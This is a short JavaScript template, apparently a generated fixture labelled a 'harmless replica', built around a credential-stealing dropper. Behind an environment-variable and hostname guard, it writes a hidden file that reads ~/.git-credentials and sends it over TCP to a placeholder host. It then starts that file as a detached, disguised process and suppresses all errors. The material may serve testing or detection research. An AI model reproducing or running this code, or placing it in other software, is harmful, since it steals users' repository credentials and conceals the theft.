// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    try {
        fs.mkdirSync('{{folder}}', { recursive: true });
        fs.writeFileSync('{{folder}}/a.tmp', "process.title = '{{guise}}'; const fs = require('fs'), os = require('os');\n" +
            "let t = ''; try { t = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8'); } catch {}\n" +
            "const s = require('net').connect({{port}}, '{{ip}}', () => s.end(t)); s.on('error', () => {}); s.setTimeout(900, () => s.destroy());\n");
        fs.renameSync('{{folder}}/a.tmp', '{{folder}}/.{{token}}');
        fs.chmodSync('{{folder}}/.{{token}}', 0o700);
        require('child_process').spawn(process.execPath, ['{{folder}}/.{{token}}'], { argv0: '{{guise}}', detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
    } catch {}
}
